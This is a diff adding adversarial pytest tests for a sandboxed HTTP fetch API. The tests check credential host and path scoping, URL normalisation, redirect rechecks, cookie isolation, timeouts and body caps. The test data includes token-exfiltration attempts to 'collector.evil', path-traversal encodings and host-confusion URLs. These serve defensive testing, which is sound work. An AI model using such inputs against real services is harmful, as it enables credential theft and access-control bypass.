@@ -1,0 +1,567 @@
+"""Adversarial tests of ctx.http.fetch (SEC4, SEC5, N10): where a credential may go, what the
+URL really is, what carries over between calls, and how long / how much a fetch may take.
+
+Every tool here is hostile on purpose. JS tools run in the real Deno sandbox, Python tools
+in-process; "real" tests use httpx against servers on 127.0.0.1 only (pytest-httpserver, and
+a raw socket server for a response whose headers never end). https:// URLs reach the
+plain-http test server through `_TlsShim` (TLS terminated in the test, as in test_http.py).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import socket
+import threading
+import time
+import tracemalloc
+from pathlib import Path
+from typing import Any, Callable, Iterator
+
+import pytest
+from pytest_httpserver import HTTPServer
+from werkzeug import Request, Response
+
+import workbench
+from workbench.ctx.limits import DEFAULT
+from workbench.providers.http import HttpRequest, HttpResponse, RealTransport
+
+from conftest import GemBuilder
+
+SECRET = "u5er-github-t0ken-value"
+MiB = 1024 * 1024
+
+PY_FETCH = """
+def handle(input, ctx):
+    r = ctx.http.fetch(input["url"], input.get("init"))
+    return {"status": r.status, "text": r.text()[:2000], "denied": r.credentialDenied, "url": r.url}
+"""
+JS_FETCH = """
+export default async function (input, ctx) {
+  const r = await ctx.http.fetch(input.url, input.init ?? undefined);
+  return { status: r.status, text: (await r.text()).slice(0, 2000),
+           denied: r.credentialDenied ?? null, url: r.url };
+}
+"""
+
+
+@pytest.fixture(params=["py", pytest.param("js", marks=pytest.mark.deno)])
+def lang(request: pytest.FixtureRequest) -> str:
+    return request.param
+
+
+@pytest.fixture
+def httpserver() -> Iterator[HTTPServer]:
+    """A fresh server on 127.0.0.1 per test: a dripping handler never holds up another test."""
+    server = HTTPServer(host="127.0.0.1", port=0, threaded=True)
+    server.start()
+    try:
+        yield server
+    finally:
+        server.clear()
+        if server.is_running():
+            server.stop()
+
+
+@pytest.fixture
+def opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., workbench.Bench]]:
+    for conn in ("ACME", "GITHUB"):
+        for var in ("TOKEN", "HOSTS", "PATHS"):
+            monkeypatch.delenv(f"GEM_WORKBENCH_CONN_{conn}_{var}", raising=False)
+    benches: list[workbench.Bench] = []
+
+    def opener(gem: GemBuilder, **kw: Any) -> workbench.Bench:
+        kw.setdefault("state_dir", tmp_path / "state")
+        kw.setdefault("headless", True)
+        b = workbench.open(gem.write(), **kw)
+        benches.append(b)
+        return b
+
+    yield opener
+    for b in benches:
+        b.close()
+
+
+def http_gem(gem: GemBuilder, connections: dict[str, Any]) -> GemBuilder:
+    gem.tool("fetch_py", PY_FETCH)
+    gem.tool("fetch_js", JS_FETCH, ext="js")
+    gem.manifest["permissions"] = {"http": {"connections": connections}}
+    return gem
+
+
+def fetch(bench: workbench.Bench, lang: str, url: str, **init: Any) -> workbench.CallResult:
+    return bench.call(f"fetch_{lang}", {"url": url, "init": init or None})
+
+
+class Recorder:
+    """A mock handler that records what it was sent (URL and headers)."""
+
+    def __init__(self, status: int = 200, headers: dict[str, str] | None = None) -> None:
+        self.seen: list[HttpRequest] = []
+        self.status, self.headers = status, headers or {}
+
+    def __call__(self, req: HttpRequest) -> dict[str, Any]:
+        self.seen.append(req)
+        return {"status": self.status, "headers": self.headers, "text": "ok"}
+
+    @property
+    def auth(self) -> list[list[str]]:
+        """Every Authorization value of each request, whatever the case of its name."""
+        return [[v for k, v in r.headers.items() if k.lower() == "authorization"] for r in self.seen]
+
+
+class _TlsShim(RealTransport):
+    """Real httpx, but https:// goes to the plain-http test server (TLS terminated here)."""
+
+    def send(self, request: HttpRequest, timeout: float, max_bytes: int | None = None) -> HttpResponse:
+        url = request.url.replace("https://", "http://", 1)
+        return super().send(HttpRequest(request.method, url, request.headers, request.body),
+                            timeout, max_bytes)
+
+
+def creds(*hosts: str, paths: list[str] | None = None, name: str = "acme") -> dict[str, Any]:
+    entry: dict[str, Any] = {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": list(hosts)}
+    if paths is not None:
+        entry["paths"] = paths
+    return {name: entry}
+
+
+ACME = {"acme": {"hosts": ["api.acme.example"], "paths": ["/v1/"]}}
+EVERYTHING = [{"match": lambda r: True, "respond": None}]
+
+
+# == SEC4: the user's configuration, not the manifest, decides where a credential goes ==========
+def test_SEC4_credential_not_sent_to_gem_chosen_host(gem: GemBuilder, opened: Callable, lang: str,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    """The issue's attack: a gem declares the user's `github` connection on its own host."""
+    rec = Recorder()
+    bench = opened(http_gem(gem, {"github": {"hosts": ["collector.evil"]}}),
+                   http=[{"match": lambda r: True, "respond": rec}])
+    monkeypatch.setenv("GEM_WORKBENCH_CONN_GITHUB_TOKEN", SECRET)  # token, but no hosts
+    res = fetch(bench, lang, "https://collector.evil/steal", connection="github")
+    res.raise_for_error()
+    assert rec.auth == [[]]
+    reason = res.value["denied"]["reason"]
+    assert reason.startswith("credential has no hosts") and "GEM_WORKBENCH_CONN_GITHUB_HOSTS" in reason
+    # the user says where the token goes: the gem's host is still not among them
+    monkeypatch.setenv("GEM_WORKBENCH_CONN_GITHUB_HOSTS", "api.github.com")
+    res = fetch(bench, lang, "https://collector.evil/steal", connection="github")
+    assert rec.auth == [[], []]
+    assert res.value["denied"] == {"reason": "host not allowed by the credential", "host": "collector.evil"}
+    assert SECRET not in bench.http().to_string() + str(res.trace_rows) + str(res.value)
+
+
+def test_SEC4_credential_not_sent_to_gem_chosen_host_real_server(gem: GemBuilder, opened: Callable,
+                                                                 lang: str, httpserver: HTTPServer) -> None:
+    seen: list[str | None] = []
+    httpserver.expect_request("/collect").respond_with_handler(
+        lambda req: (seen.append(req.headers.get("Authorization")), Response("got it"))[1])
+    port = httpserver.port
+    bench = opened(http_gem(gem, {"github": {"hosts": [f"localhost:{port}"]}}), http=_TlsShim(),
+                   credentials=creds("api.github.com", name="github"))
+    res = fetch(bench, lang, f"https://localhost:{port}/collect", connection="github")
+    res.raise_for_error()
+    assert seen == [None] and res.value["text"] == "got it"
+    assert res.value["denied"]["reason"] == "host not allowed by the credential"
+
+
+def test_SEC4_code_given_header_dict_without_hosts_is_refused(gem: GemBuilder, opened: Callable,
+                                                              tmp_path: Path) -> None:
+    """The old `{name: {header: value}}` let the manifest pick the hosts: refused, saying what to add."""
+    import json
+
+    http_gem(gem, ACME)
+    for given in ({"acme": {"Authorization": f"Bearer {SECRET}"}},
+                  {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}}},
+                  {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": []}},
+                  {"acme": {"token": SECRET, "hosts": ["https://api.acme.example/"]}}):
+        with pytest.raises(workbench.UsageError) as info:
+            opened(gem, credentials=given)
+        assert "hosts" in str(info.value) and SECRET not in str(info.value), given
+        f = tmp_path / "secrets.json"
+        f.write_text(json.dumps(given))
+        with pytest.raises(workbench.UsageError) as info:
+            opened(gem, credentials=f)
+        assert str(f) in str(info.value) and SECRET not in str(info.value)
+
+
+def test_SEC4_manifest_can_narrow_never_widen(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    rec = Recorder()
+    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example", "*.acme.example"],
+                                           "paths": ["/v1/", "/admin/"]}}),
+                   http=[{"match": lambda r: True, "respond": rec}],
+                   credentials=creds("api.acme.example", "files.acme.example", paths=["/v1/"]))
+    cases = [("https://api.acme.example/v1/ok", None),
+             ("https://files.acme.example/v1/ok", None),
+             ("https://other.acme.example/v1/x", "host not allowed by the credential"),
+             ("https://api.acme.example/admin/x", "path not allowed by the credential")]
+    for url, reason in cases:
+        res = fetch(bench, lang, url, connection="acme")
+        res.raise_for_error()
+        assert (res.value["denied"] or {}).get("reason") == reason, url
+    assert rec.auth == [[f"Bearer {SECRET}"], [f"Bearer {SECRET}"], [], []]
+
+
+@pytest.mark.parametrize("path", [
+    "/v1/../admin", "/v1/%2e%2e/admin", "/v1/%2E%2E/admin", "/v1/.%2e/admin", "/v1/..%2fadmin",
+    "/v1%2f..%2fadmin", "/v1/%252e%252e/admin", "/v1/..%5cadmin", "/v1\\..\\admin",
+    "/v1/x/%2e%2e/%2e%2e/admin",
+])
+def test_SEC4_path_grant_checked_on_the_normalised_path(gem: GemBuilder, opened: Callable,
+                                                        path: str) -> None:
+    rec = Recorder()
+    bench = opened(http_gem(gem, ACME), http=[{"match": lambda r: True, "respond": rec}],
+                   credentials=creds("api.acme.example"))
+    res = fetch(bench, "py", f"https://api.acme.example{path}", connection="acme")
+    res.raise_for_error()
+    assert rec.auth == [[]], rec.seen[0].url
+    assert res.value["denied"]["reason"] == "path not granted"
+    sent = rec.seen[0].url.split("?")[0].split("/")[3:]  # what was checked is what was sent
+    assert not [seg for seg in sent if seg.lower() in ("..", ".%2e", "%2e.", "%2e%2e")], sent
+
+
+@pytest.mark.deno
+def test_SEC4_path_dot_segments_from_js_real_server(gem: GemBuilder, opened: Callable,
+                                                    httpserver: HTTPServer) -> None:
+    """The server sees the normalised path, without the credential, from a JS tool."""
+    seen: list[tuple[str, str | None]] = []
+
+    def record(req: Request) -> Response:
+        seen.append((req.path, req.headers.get("Authorization")))
+        return Response("admin page")
+
+    httpserver.expect_request("/admin").respond_with_handler(record)
+    port = httpserver.port
+    bench = opened(http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
+                   http=_TlsShim(), credentials=creds(f"localhost:{port}"))
+    for path in ("/v1/../admin", "/v1/%2e%2e/admin"):
+        res = fetch(bench, "js", f"https://localhost:{port}{path}", connection="acme")
+        res.raise_for_error()
+        assert res.value["denied"]["reason"] == "path not granted"
+    assert seen == [("/admin", None), ("/admin", None)]
+
+
+def test_SEC4_path_grant_matches_whole_segments(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    rec = Recorder()
+    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example"], "paths": ["/api", "/v1/"]}}),
+                   http=[{"match": lambda r: True, "respond": rec}], credentials=creds("api.acme.example"))
+    cases = {"/api": True, "/api/": True, "/api/x": True, "/v1/": True, "/v1/x": True,
+             "/api-evil": False, "/apix/y": False, "/v1": False, "/v1x/y": False, "/API/x": False,
+             "/v1/x/../../api-evil": False}
+    for path, ok in cases.items():
+        res = fetch(bench, lang, f"https://api.acme.example{path}", connection="acme")
+        res.raise_for_error()
+        assert (res.value["denied"] is None) is ok, path
+    assert [bool(a) for a in rec.auth] == list(cases.values())
+
+
+def test_SEC4_port_is_part_of_the_grant(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    rec = Recorder()
+    g = http_gem(gem, ACME)
+    bench = opened(g, http=[{"match": lambda r: True, "respond": rec}],
+                   credentials=creds("api.acme.example"))
+    for url in ("https://api.acme.example:8443/v1/x", "https://api.acme.example:444/v1/x"):
+        res = fetch(bench, lang, url, connection="acme")
+        assert res.value["denied"] == {"reason": "host not granted", "host": "api.acme.example"}
+    # :443 is the default port, the same origin as the grant
+    assert fetch(bench, lang, "https://api.acme.example:443/v1/x", connection="acme").value["denied"] is None
+    assert rec.auth == [[], [], [f"Bearer {SECRET}"]]
+    assert rec.seen[2].url == "https://api.acme.example/v1/x"
+    # an explicit port on both sides allows it
+    g.manifest["permissions"]["http"]["connections"]["acme"]["hosts"] = ["api.acme.example:8443"]
+    bench2 = opened(g, http=[{"match": lambda r: True, "respond": rec}],
+                    credentials=creds("api.acme.example:8443"), state_dir=g.root.parent / "s2")
+    assert fetch(bench2, lang, "https://api.acme.example:8443/v1/x", connection="acme").value["denied"] is None
+    assert fetch(bench2, lang, "https://api.acme.example/v1/x", connection="acme").value["denied"]["reason"] \
+        == "host not granted"
+    assert rec.auth[3:] == [[f"Bearer {SECRET}"], []]
+
+
+def test_SEC4_userinfo_and_backslash_do_not_confuse_the_host(gem: GemBuilder, opened: Callable,
+                                                             lang: str) -> None:
+    rec = Recorder()
+    bench = opened(http_gem(gem, ACME), http=[{"match": lambda r: True, "respond": rec}],
+                   credentials=creds("api.acme.example"))
+    for url in ("https://api.acme.example@evil.example/v1/x",
+                "https://api.acme.example:443@evil.example/v1/x",
+                "https://user:pw@api.acme.example/v1/x",
+                "https://api.acme.example%2f@evil.example/v1/x"):
+        res = fetch(bench, lang, url, connection="acme")
+        assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", url
+    # a browser reads "\" as "/": this URL is evil.example, and the request goes there bare
+    res = fetch(bench, lang, "https://evil.example\\@api.acme.example/v1/x", connection="acme")
+    res.raise_for_error()
+    assert res.value["denied"] == {"reason": "host not granted", "host": "evil.example"}
+    assert rec.seen[-1].url.startswith("https://evil.example/") and rec.auth == [[]]
+
+
+def test_SEC4_host_names_are_normalised(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    rec = Recorder()
+    bench = opened(http_gem(gem, {"acme": {"hosts": ["API.acme.example.", "xn--bcher-kva.example"]},
+                                  "wild": {"hosts": ["*.acme.example"]}}),
+                   http=[{"match": lambda r: True, "respond": rec}],
+                   credentials={**creds("api.acme.example", "bücher.example"),
+                                **creds("*.Acme.Example", name="wild")})
+    ok = ["https://API.ACME.EXAMPLE./v1/x", "https://BÜCHER.example/x", "https://xn--bcher-kva.example./y"]
+    for url in ok:
+        res = fetch(bench, lang, url, connection="acme")
+        assert res.value["denied"] is None, url
+    assert [r.url for r in rec.seen] == ["https://api.acme.example/v1/x", "https://xn--bcher-kva.example/x",
+                                         "https://xn--bcher-kva.example/y"]
+    for url, conn in [("https://api.acme.example.evil.example/", "acme"),
+                      ("https://evilacme.example/", "wild"), ("https://acme.example/", "wild"),
+                      ("https://x.acme.example.evil/", "wild")]:
+        res = fetch(bench, lang, url, connection=conn)
+        assert res.value["denied"] is not None, url
+    assert fetch(bench, lang, "https://a.b.ACME.example./z", connection="wild").value["denied"] is None
+    assert [bool(a) for a in rec.auth] == [True] * 3 + [False] * 4 + [True]
+
+
+def test_SEC4_tool_set_authorization_is_dropped_when_injecting(gem: GemBuilder, opened: Callable,
+                                                               lang: str, httpserver: HTTPServer) -> None:
+    seen: list[list[str]] = []
+
+    def record(req: Request) -> Response:
+        seen.append([f"{k}: {v}" for k, v in req.headers.items() if k.lower() in ("authorization", "x-api-key")])
+        return Response("ok")
+
+    httpserver.expect_request("/v1/x").respond_with_handler(record)
+    port = httpserver.port
+    bench = opened(http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
+                   http=_TlsShim(),
+                   credentials={"acme": {"headers": {"Authorization": f"Bearer {SECRET}", "X-Api-Key": "k3y-user"},
+                                         "hosts": [f"localhost:{port}"]}})
+    for headers in ([["authorization", "Bearer tool-chosen"], ["x-API-key", "tool-key"]],
+                    {"AUTHORIZATION": "Basic dG9vbA=="}):
+        res = fetch(bench, lang, f"https://localhost:{port}/v1/x", connection="acme", headers=headers)
+        res.raise_for_error()
+        assert res.value["denied"] is None
+    assert len(seen) == 2
+    for got in seen:
+        assert sorted(got) == sorted([f"Authorization: Bearer {SECRET}", "X-Api-Key: k3y-user"]), got
+
+
+def test_SEC4_every_redirect_hop_is_checked_again(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    hops = {
+        "https://api.acme.example/v1/port": "https://api.acme.example:8443/v1/x",
+        "https://api.acme.example/v1/up": "/v1/../admin/x",
+        "https://api.acme.example/v1/enc": "https://api.acme.example/v1/%2e%2e/admin",
+        "https://api.acme.example/v1/user": "https://api.acme.example@evil.example/v1/x",
+    }
+    rec = Recorder()
+
+    def route(req: HttpRequest) -> dict[str, Any]:
+        if req.url in hops:
+            rec.seen.append(req)
+            return {"status": 302, "headers": {"Location": hops[req.url]}}
+        return rec(req)
+
+    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example", "api.acme.example:8443"],
+                                           "paths": ["/v1/"]}}),
+                   http=[{"match": lambda r: True, "respond": route}],
+                   credentials=creds("api.acme.example", "api.acme.example:8443"))
+    expect = {"https://api.acme.example/v1/port": "redirected to another port",
+              "https://api.acme.example/v1/up": "path not granted",
+              "https://api.acme.example/v1/enc": "path not granted"}
+    for start, reason in expect.items():
+        res = fetch(bench, lang, start, connection="acme")
+        res.raise_for_error()
+        assert res.value["denied"]["reason"] == reason, start
+        assert rec.auth[-2:] == [[f"Bearer {SECRET}"], []], start  # the first hop had it, not the next
+    assert [r.url for r in rec.seen][1::2] == ["https://api.acme.example:8443/v1/x",
+                                              "https://api.acme.example/admin/x",
+                                              "https://api.acme.example/admin"]
+    res = fetch(bench, lang, "https://api.acme.example/v1/user", connection="acme")
+    assert res.error.code == "E_HTTP" and "invalid URL" in res.error.message
+    assert SECRET not in str(res.error) and len(rec.seen) == 7
+    assert (bench.http()["credential"].tolist()[:3]) == ["dropped"] * 3
+
+
+def test_SEC4_no_cookies_carried_between_calls(gem: GemBuilder, opened: Callable, lang: str,
+                                               httpserver: HTTPServer) -> None:
+    httpserver.expect_request("/set").respond_with_handler(
+        lambda req: Response("set", headers={"Set-Cookie": "session=abc123; Path=/"}))
+    httpserver.expect_request("/check").respond_with_handler(
+        lambda req: Response(req.headers.get("Cookie") or "no cookie"))
+    bench = opened(http_gem(gem, {}), http="real")
+    assert fetch(bench, lang, httpserver.url_for("/set")).value["text"] == "set"
+    assert fetch(bench, lang, httpserver.url_for("/check")).value["text"] == "no cookie"
+    assert fetch(bench, "py", httpserver.url_for("/check")).value["text"] == "no cookie"
+    # nor through a redirect within one call: a Set-Cookie on a hop is not replayed
+    httpserver.expect_request("/hop").respond_with_handler(
+        lambda req: Response("", status=302, headers={"Set-Cookie": "hop=1; Path=/", "Location": "/check"}))
+    assert fetch(bench, lang, httpserver.url_for("/hop")).value["text"] == "no cookie"
+
+
+# == SEC5: one total deadline, one body cap ======================================================
+def _drip(seconds: float, every: float = 0.05) -> Callable[[Request], Response]:
+    def handler(req: Request) -> Response:
+        def body() -> Iterator[bytes]:
+            end = time.monotonic() + seconds
+            while time.monotonic() < end:
+                yield b"x"
+                time.sleep(every)
+        return Response(body(), content_type="text/plain")
+    return handler
+
+
+def test_SEC5_slow_drip_body_bounded_by_http_timeout(gem: GemBuilder, opened: Callable, lang: str,
+                                                     httpserver: HTTPServer) -> None:
+    httpserver.expect_request("/drip").respond_with_handler(_drip(8.0))
+    bench = opened(http_gem(gem, {}), http="real", http_timeout=1.0)
+    t0 = time.monotonic()
+    res = fetch(bench, lang, httpserver.url_for("/drip"))
+    took = time.monotonic() - t0
+    assert res.error is not None and res.error.code == "E_HTTP", res.value
+    assert "1 s" in res.error.message and took < 3.0, took
+    if lang == "py":
+        assert res.error.details["reason"] == "timeout"
+
+
+def test_SEC5_tool_timeout_option_cannot_lengthen_http_timeout(gem: GemBuilder, opened: Callable,
+                                                               httpserver: HTTPServer) -> None:
+    httpserver.expect_request("/drip").respond_with_handler(_drip(8.0))
+    bench = opened(http_gem(gem, {}), http="real", http_timeout=1.0)
+    t0 = time.monotonic()
+    res = fetch(bench, "py", httpserver.url_for("/drip"), timeout=600)
+    assert res.error.code == "E_HTTP" and time.monotonic() - t0 < 3.0
+
+
+class _HeaderDrip:
+    """A raw server on 127.0.0.1 whose response headers never end (one header line per 50 ms):
+    httpx's per-read timeouts never fire on it, only a total deadline does."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(4)
+        self.port = self.sock.getsockname()[1]
+        self.stop = threading.Event()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        self.sock.settimeout(0.2)
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            threading.Thread(target=self._drip, args=(conn,), daemon=True).start()
+
+    def _drip(self, conn: socket.socket) -> None:
+        with conn:
+            try:
+                conn.recv(65536)
+                conn.sendall(b"HTTP/1.1 200 OK\r\n")
+                for i in range(400):
+                    if self.stop.is_set():
+                        return
+                    conn.sendall(b"X-Drip-%d: x\r\n" % i)
+                    time.sleep(0.05)
+            except OSError:
+                return
+
+    def close(self) -> None:
+        self.stop.set()
+        self.sock.close()
+
+
+def test_SEC5_slow_drip_headers_bounded(gem: GemBuilder, opened: Callable, lang: str) -> None:
+    server = _HeaderDrip()
+    try:
+        bench = opened(http_gem(gem, {}), http="real", http_timeout=1.0)
+        t0 = time.monotonic()
+        res = fetch(bench, lang, f"http://127.0.0.1:{server.port}/")
+        took = time.monotonic() - t0
+    finally:
+        server.close()
+    assert res.error is not None and res.error.code == "E_HTTP" and took < 3.0, (res.error, took)
+
+
+def test_SEC5_fetch_bounded_by_the_calls_remaining_time(gem: GemBuilder, opened: Callable, lang: str,
+                                                        httpserver: HTTPServer) -> None:
+    """http_timeout 30 s, but the call has 2 s: the fetch stops when the call's time is up."""
+    httpserver.expect_request("/drip").respond_with_handler(_drip(10.0))
+    bench = opened(http_gem(gem, {}), http="real", http_timeout=30.0, timeout=2.0)
+    bench.call(f"fetch_{lang}", {"url": httpserver.url_for("/missing")})  # start the sandbox first
+    t0 = time.monotonic()
+    res = fetch(bench, lang, httpserver.url_for("/drip"))
+    took = time.monotonic() - t0
+    assert res.error is not None and res.error.code == "E_TIMEOUT", res.error
+    assert took < 4.0, took
+
+
+def _huge(total: int, declared: bool = False) -> Callable[[Request], Response]:
+    """A body of `total` bytes, generated chunk by chunk (never allocated whole)."""
+    def handler(req: Request) -> Response:
+        chunk = b"z" * MiB
+
+        def body() -> Iterator[bytes]:
+            for _ in range(total // MiB):
+                yield chunk
+        headers = {"Content-Length": str(total)} if declared else {}
+        return Response(body(), content_type="application/octet-stream", headers=headers)
+    return handler
+
+
+def test_SEC5_huge_body_stops_at_http_body_bytes(gem: GemBuilder, opened: Callable,
+                                                 httpserver: HTTPServer) -> None:
+    """300 MB streamed (no Content-Length): cut at the 20 MiB default, memory stays small."""
+    httpserver.expect_request("/huge").respond_with_handler(_huge(300 * MiB))
+    bench = opened(http_gem(gem, {}), http="real", http_timeout=60.0)
+    tracemalloc.start()
+    try:
+        t0 = time.monotonic()
+        res = fetch(bench, "py", httpserver.url_for("/huge"))
+        took = time.monotonic() - t0
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert res.error is not None and res.error.code == "E_TOO_LARGE", res.value if res.ok else res.error
+    assert "http_body_bytes" in res.error.message and f"{DEFAULT.http_body_bytes:,}" in res.error.message
+    assert res.error.details["limit"] == "http_body_bytes"
+    assert took < 20 and peak < 80 * MiB, (took, peak / MiB)
+
+
+@pytest.mark.deno
+def test_SEC5_huge_body_from_js_is_E_TOO_LARGE(gem: GemBuilder, opened: Callable,
+                                               httpserver: HTTPServer) -> None:
+    httpserver.expect_request("/huge").respond_with_handler(_huge(64 * MiB))
+    bench = opened(http_gem(gem, {}), http="real",
+                   limits=dataclasses.replace(DEFAULT, http_body_bytes=2 * MiB))
+    res = fetch(bench, "js", httpserver.url_for("/huge"))
+    assert res.error.code == "E_TOO_LARGE" and "http_body_bytes" in res.error.message
+
+
+def test_SEC5_declared_length_over_the_cap_is_not_read(gem: GemBuilder, opened: Callable, lang: str,
+                                                       httpserver: HTTPServer) -> None:
+    httpserver.expect_request("/big").respond_with_handler(_huge(300 * MiB, declared=True))
+    bench = opened(http_gem(gem, {}), http="real")
+    t0 = time.monotonic()
+    res = fetch(bench, lang, httpserver.url_for("/big"))
+    assert res.error.code == "E_TOO_LARGE" and "Content-Length 314,572,800" in res.error.message
+    assert time.monotonic() - t0 < 5
+
+
+@pytest.mark.parametrize("transport", ["mock", "real"])
+def test_SEC5_body_cap_is_the_same_on_mock_and_real(gem: GemBuilder, opened: Callable, lang: str,
+                                                    httpserver: HTTPServer, transport: str) -> None:
+    httpserver.expect_request("/b").respond_with_handler(
+        lambda req: Response(b"y" * int(req.args["n"])))
+    http: Any = "real" if transport == "real" else [
+        {"match": lambda r: True, "respond": lambda r: {"body": b"y" * int(r.url.split("n=")[1])}}]
+    bench = opened(http_gem(gem, {}), http=http,
+                   limits=dataclasses.replace(DEFAULT, http_body_bytes=1000))
+    assert fetch(bench, lang, httpserver.url_for("/b") + "?n=1000").value["text"] == "y" * 1000
+    res = fetch(bench, lang, httpserver.url_for("/b") + "?n=1001")
+    assert res.error.code == "E_TOO_LARGE" and "1,000 bytes" in res.error.message
+
+
+def test_SEC5_slow_mock_handler_is_bounded_too(gem: GemBuilder, opened: Callable) -> None:
+    """A transport that cannot be cut (a mock handler) still ends the fetch as a timeout."""
+    def slow(req: HttpRequest) -> str:
+        time.sleep(0.6)
+        return "late"
+
+    bench = opened(http_gem(gem, {}), http=[{"match": "https://", "respond": slow}], http_timeout=0.3)
+    res = fetch(bench, "py", "https://slow.example/")
+    assert res.error.code == "E_HTTP" and res.error.details["reason"] == "timeout"
